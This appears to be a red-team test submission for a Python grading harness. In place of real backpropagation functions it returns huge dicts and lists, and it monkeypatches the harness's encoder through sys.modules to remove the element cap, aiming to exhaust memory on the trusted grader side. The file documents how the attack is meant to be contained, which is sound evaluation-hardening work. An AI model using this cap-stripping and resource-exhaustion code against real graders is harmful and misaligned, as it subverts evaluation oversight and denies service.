# RED-TEAM ATTACK (issue 20, item 3): a result of many small Python objects.
# Route: L_model_backward returns a dict of 200,000 ints per call: 3.4 MB on the wire, ten times that
#   as Python objects on the trusted side (5.4 GB measured before the budget). The job's own cap on a
#   result's elements is taken out first (the harness's wire module is reachable from inside the job),
#   so the frames reach the trusted side whole. linear_activation_backward returns a list of 45,000
#   ints per call: under the cap on one result's elements, over the cap on one check's after four.
# Contained when: the trusted side refuses to decode more than its caps (the report's `budget` says
#   which), both functions and the end-to-end check score 0, the rest is graded as correct, and the
#   honest submission graded next is unchanged.
# attacked: L_model_backward, linear_activation_backward
# run: batch
import sys


def _uncap():
    for module in list(sys.modules.values()):
        space = getattr(module, "__dict__", {})
        if {"write_frame", "encode", "decode"} <= set(space) and not getattr(space["encode"], "uncapped", False):
            original = space["encode"]

            def encode(obj, max_bytes=None, max_elements=None, _original=original):
                return _original(obj, max_bytes)

            encode.uncapped = True
            space["encode"] = encode


def L_model_backward(AL, Y, caches):
    _uncap()
    return {"dA%d" % i: i for i in range(200000)}


def linear_activation_backward(dA, cache, activation):
    return list(range(45000))


# __HONEST_REST__
